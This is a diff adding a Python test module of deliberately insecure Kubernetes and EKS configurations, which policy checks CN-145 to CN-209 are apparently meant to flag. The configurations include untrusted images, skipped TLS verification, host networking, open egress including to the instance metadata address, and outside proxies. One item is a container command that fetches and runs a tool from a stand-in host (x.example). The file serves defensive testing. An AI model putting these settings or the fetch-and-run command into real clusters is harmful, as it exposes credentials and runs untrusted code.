@@ -1,0 +1,186 @@
+"""Pods and what they are told: images, hosts, proxies, flags of controllers."""
+
+from typing import Any
+
+from tests.policies.mutations.kubernetes import an_object
+from tests.policies.mutations.mutation import Change, edit, opens
+from tests.policies.mutations.stacks import ACCOUNT, FOREIGN, REGION
+from tests.policies.mutations.told import DIGEST
+
+OWN = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com"
+IMAGE = f"{OWN}/app{DIGEST}"
+ADD_ON = "aws:eks/addon:Addon"
+
+
+def pod(*more: dict[str, Any], kind: str = "apps/v1:Deployment", **spec: Any) -> Change:
+    """An object with a pod: of one sound container, or of these instead."""
+    containers = list(more) or [{"name": "app", "image": IMAGE}]
+    template = {"spec": {"containers": containers, **spec}}
+    return an_object(f"kubernetes:{kind}", spec={"template": template})
+
+
+def told(**container: Any) -> Change:
+    return pod({"name": "app", "image": IMAGE, **container})
+
+
+def image(reference: str) -> Change:
+    return told(image=reference)
+
+
+def variable(name: str, value: str) -> dict[str, str]:
+    return {"name": name, "value": value}
+
+
+CONTROLLER = f"{OWN}/mirror/aws-load-balancer-controller{DIGEST}"
+OFF = ["--enable-waf=false", "--enable-wafv2=false", "--enable-shield=false"]
+CNI = [variable("ENABLE_SUBNET_DISCOVERY", "false")]
+MUTATIONS = (
+    opens("an image of a public registry", "CN-145", image(f"quay.io/org/app{DIGEST}")),
+    opens("an image without a registry", "CN-145", image(f"nginx{DIGEST}")),
+    opens(
+        "an image of another account",
+        "CN-145",
+        image(f"{FOREIGN}.dkr.ecr.{REGION}.amazonaws.com/app{DIGEST}"),
+    ),
+    opens(
+        "an image of another region",
+        "CN-145",
+        image(f"{ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/app{DIGEST}"),
+    ),
+    opens(
+        "an image of an init container",
+        "CN-145",
+        pod(initContainers=[{"image": f"ghcr.io/org/init{DIGEST}"}]),
+    ),
+    opens(
+        "an image of a job that comes later",
+        "CN-145",
+        an_object(
+            "kubernetes:batch/v1:CronJob",
+            spec={
+                "jobTemplate": {
+                    "spec": {"template": {"spec": {"containers": [{"image": f"busybox{DIGEST}"}]}}}
+                }
+            },
+        ),
+    ),
+    opens(
+        "an image that an operator is told of",
+        "CN-145",
+        told(args=[f"--config-reloader-image=quay.io/org/reloader{DIGEST}"]),
+    ),
+    opens(
+        "an image as a volume",
+        "CN-145",
+        pod(volumes=[{"name": "v", "image": {"reference": f"docker.io/org/data{DIGEST}"}}]),
+    ),
+    opens("an image by a tag", "CN-146", image(f"{OWN}/app:v1")),
+    opens(
+        "an aggregated API that nobody verifies",
+        "CN-147",
+        an_object(
+            "kubernetes:apiregistration.k8s.io/v1:APIService",
+            spec={"insecureSkipTLSVerify": True, "service": {"name": "x", "namespace": "y"}},
+        ),
+    ),
+    opens("a pod on the node's network", "CN-148", pod(hostNetwork=True)),
+    opens(
+        "endpoints outside",
+        "CN-149",
+        an_object("kubernetes:core/v1:Endpoints", subsets=[{"addresses": [{"ip": "8.8.8.8"}]}]),
+    ),
+    opens(
+        "a network policy that lets everything out",
+        "CN-149",
+        an_object(
+            "kubernetes:networking.k8s.io/v1:NetworkPolicy",
+            spec={"egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]},
+        ),
+    ),
+    opens(
+        "a network policy that lets pods at the node's credentials",
+        "CN-149",
+        an_object(
+            "kubernetes:networking.k8s.io/v1:NetworkPolicy",
+            spec={"egress": [{"to": [{"ipBlock": {"cidr": "169.254.169.254/32"}}]}]},
+        ),
+    ),
+    opens(
+        "a pod that is told of a host outside",
+        "CN-200",
+        told(env=[variable("ENDPOINT", "https://collector.example/v1")]),
+    ),
+    opens(
+        "a pod that fetches from outside",
+        "CN-200",
+        told(command=["sh", "-c", "wget -q x.example/tool && ./tool"]),
+    ),
+    opens(
+        "an Ingress that asks an issuer outside",
+        "CN-200",
+        an_object(
+            "kubernetes:networking.k8s.io/v1:Ingress",
+            metadata={
+                "annotations": {
+                    "alb.ingress.kubernetes.io/scheme": "internal",
+                    "alb.ingress.kubernetes.io/auth-idp-oidc": '{"issuer":"https://id.example"}',
+                }
+            },
+        ),
+    ),
+    opens(
+        "a load balancer controller that asks Shield",
+        "CN-203",
+        pod({"image": CONTROLLER, "args": OFF[:2]}),
+    ),
+    opens(
+        "Karpenter with prices of the internet",
+        "CN-203",
+        pod({"name": "controller", "image": f"{OWN}/karpenter/controller{DIGEST}"}),
+    ),
+    opens(
+        "an autoscaler that asks for types",
+        "CN-203",
+        pod({"image": f"{OWN}/cluster-autoscaler{DIGEST}", "args": ["--cloud-provider=aws"]}),
+    ),
+    opens(
+        "pods in any subnet that is tagged",
+        "CN-204",
+        edit(ADD_ON, "configurationValues", None, lambda n: n.resource.name == "vpc-cni"),
+    ),
+    opens(
+        "pods with IPv6 egress",
+        "CN-204",
+        pod(
+            {
+                "name": "aws-node",
+                "image": IMAGE,
+                "env": [*CNI, variable("ENABLE_V6_EGRESS", "true")],
+            },
+            kind="apps/v1:DaemonSet",
+        ),
+    ),
+    opens(
+        "a Gateway of VPC Lattice",
+        "CN-205",
+        an_object(
+            "kubernetes:gateway.networking.k8s.io/v1:GatewayClass",
+            spec={"controllerName": "application-networking.k8s.aws/gateway-api-controller"},
+        ),
+    ),
+    opens(
+        "a proxy of pods outside",
+        "CN-209",
+        told(
+            env=[
+                variable("HTTPS_PROXY", "http://proxy.example:3128"),
+                variable("NO_PROXY", "169.254.170.23,.svc"),
+            ]
+        ),
+    ),
+    opens(
+        "a proxy that sees the credentials of pods",
+        "CN-209",
+        told(env=[variable("HTTPS_PROXY", "http://proxy.internal:3128")]),
+    ),
+)
